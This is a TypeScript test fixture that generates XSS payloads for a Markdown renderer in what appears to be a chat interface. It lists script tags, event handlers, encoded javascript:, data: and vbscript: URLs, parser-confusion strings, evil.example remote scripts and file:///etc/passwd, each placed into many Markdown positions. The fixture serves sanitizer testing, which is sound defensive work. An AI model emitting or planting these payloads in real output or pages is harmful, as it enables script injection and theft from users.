// What an attacker would let a model say: scripts and addresses in every place that Markdown has.

const CALL = 'globalThis.hacked=1';

const html: readonly string[] = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}"/>text`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<input autofocus onfocus=${CALL}>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<style>@import "//evil.example/x.css"; * { background: url(//evil.example/y) }</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="//evil.example/">`,
  `<template><img src onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src onerror=${CALL}>">`,
  `<!--><img src onerror=${CALL}>-->`,
  `<![CDATA[><img src onerror=${CALL}>]]>`,
  `<?x ><img src onerror=${CALL}>?>`,
  `<x onclick=${CALL} style="position:fixed;inset:0">`,
  `<chat-kit-markdown text="x"></chat-kit-markdown>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `"><script>${CALL}</script>`,
];

const addresses: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript&colon;${CALL}`,
  `\\javascript:${CALL}`,
  `javascript&#58;${CALL}`,
  `java&Tab;script:${CALL}`,
  `&#1;javascript:${CALL}`,
  `&NewLine;javascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload="${CALL}"/>`,
  `DATA:image/png,x`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `filesystem:https://evil.example/x`,
  `view-source:javascript:${CALL}`,
  `//evil.example/x`,
  `https:evil.example`,
  `\\\\evil.example\\x`,
  `x" onerror="${CALL}`,
  `x' onmouseover='${CALL}`,
  `https://evil.example/"><script>${CALL}</script>`,
  `https://user:secret@evil.example/`,
];

/** Where Markdown takes an address. */
const ADDRESS_PLACES: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "${address}")`,
  (address) => `![x](${address})`,
  (address) => `![${address}](<${address}>)`,
  (address) => `[x][a] ![x][a]\n\n[a]: <${address}> '${address}'`,
  (address) => `<${address}>`,
  (address) => `$\\href{${address}}{x}$ and \\(\\url{${address}}\\)`,
  (address) => `[![x](${address})](${address})`,
  (address) => `see www.example.com/${address} and ${address}`,
];

/** And where it takes a text. */
const HTML_PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `a ${text} b`,
  (text) => `# ${text}`,
  (text) => `- ${text}\n- [ ] ${text}`,
  (text) => `> ${text}`,
  (text) => `**${text}** _${text}_ ~~${text}~~ \`${text}\``,
  (text) => `[${text}](/a "${text}")`,
  (text) => `![${text}](/a "${text}")`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `    ${text}`,
  (text) => `| ${text} |\n| - |\n| ${text} |`,
  (text) => `x[^${text}] y[^a]\n\n[^a]: ${text}`,
  (text) => `$$\n${text}\n$$\n\n\\(\\text{${text}}\\) $\\style{${text}}{x}$`,
  (text) => `[a]\n\n[a]: /b "${text}"`,
  (text) => `<div>\n${text}\n</div>`,
];

export interface Payload {
  readonly name: string;
  readonly texts: readonly string[];
}

export const PAYLOADS: readonly Payload[] = [
  ...html.map((name) => ({ name, texts: HTML_PLACES.map((place) => place(name)) })),
  ...addresses.map((name) => ({ name, texts: ADDRESS_PLACES.map((place) => place(name)) })),
];
